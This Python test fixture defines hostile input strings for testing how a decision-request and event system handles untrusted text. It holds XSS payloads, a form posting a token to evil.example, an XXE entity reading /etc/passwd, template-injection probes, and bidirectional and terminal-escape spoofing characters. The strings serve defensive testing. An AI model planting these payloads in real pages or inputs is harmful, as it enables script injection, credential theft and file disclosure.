"""Texts that would act, hide or move things on a page that lets them, and decisions that have them in every field."""

from __future__ import annotations

from typing import Any

from lumyn.canonical import canonical, digest_of

__all__ = ["HOSTILE", "event_of", "request_of"]

_ID_MAX = 256

_MARKUP = {
    "script": "<script>window.owned=1;alert(1)</script>",
    "attribute": "\"><img src=x onerror='window.owned=1'>",
    "attribute in single quotes": "' autofocus onfocus='window.owned=1' x='",
    "ends of elements": "</title></code></pre></bdi></option></select><script>window.owned=1</script>",
    "link": "<a href='javascript:window.owned=1'>click</a> javascript:window.owned=1 https://evil.example/",
    "frame": "<iframe srcdoc='<script>parent.owned=1</script>'></iframe><svg/onload=window.owned=1>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "form": "<form action=https://evil.example/ method=post><input name=token autofocus onfocus=window.owned=1>",
    "entities": "&lt;script&gt;window.owned=1&lt;/script&gt; &#x202e; &amp;amp; &NewLine; &#0;",
    "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> {{ ''.__class__ }}",
    "comment": "--><!-- <![CDATA[ <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e; ]]>",
    "odd markup": "<scr<script>ipt>window.owned=1</scr</script>ipt> <img/src=x/onerror=window.owned=1//",
}
_HIDDEN = {
    "bidirectional override": "refund \u202egnp.exe\u202c done",
    "bidirectional isolates": "\u2066one\u2069 \u2067two\u2069 \u2068three\u2069 \u061c\u200f\u200e",
    "zero width": "ad\u200bmin\u200c\u200d\u2060\ufeff",
    "terminal": "\x1b[31mred\x1b]8;;https://evil.example/\x07 \x08\x7f\x85\x9b31m",
    "line breaks": "one\ntwo\r\nthree\u2028four\u2029five\x0b\x0c",
    "white space": "\u00a0no break\u3000\u2003wide\u00ad",
    "tags": "flag\U000e0067\U000e0062\U000e007f\ufff9x\ufffb",
    "private use": "\ue000\U000f0000\U0010fffd",
}
_WIDE = {
    "right to left": "החזר כספי 42 (abc) عميل",
    "combining": "Z\u0338\u0351\u0369\u0314" + "a" + "\u0300" * 40,
    "wide and astral": "返金 🧾👩‍💻 𝔯𝔢𝔣𝔲𝔫𝔡",
    "long word": "W" * 3_000,
    "long text": "refund the customer " * 200,
    "quotes and backslashes": "\\u202e \\ \" ' ` \\\\ </ %0a %3Cscript%3E +",
}
HOSTILE = {**_MARKUP, **_HIDDEN, **_WIDE}


def request_of(text: str, number: int) -> dict[str, Any]:
    """A request that has a text in every field that takes one, keys included."""
    name = text[:_ID_MAX]
    inline: dict[str, Any] = {text: text, "messages": [{"role": name, "content": text}]}
    return {
        "schema_version": "decision_request.v0",
        "request_id": f"{number} {name}"[:_ID_MAX],
        "trace": {"correlation_id": name, "span_id": name},
        "tenant": {"tenant_id": name, "environment": "prod"},
        "subject": {"type": "agent", "id": name, "ip": text, "user_agent": text, "roles": [text, "x"]},
        "action": {
            "type": "support.refund",
            "intent": text,
            "target": {"system": text, "resource_type": text, "resource_id": text},
            "amount": {"value": 19, "currency": "USD"},
            "tags": [text],
        },
        "evidence": {"ticket_id": text, "order_id": text, text: text, "nested": {text: [text, {text: text}]}},
        "context": {"mode": "inline", "digest": digest_of(canonical(inline)), "inline": inline},
        "extensions": {text: text},
    }


def event_of(text: str) -> dict[str, object]:
    """A label that has a text in every field that takes one."""
    return {
        "type": "label",
        "label": "failure",
        "actor": text[:_ID_MAX],
        "summary": text[:4_096],
        "data": {text: [text]},
    }
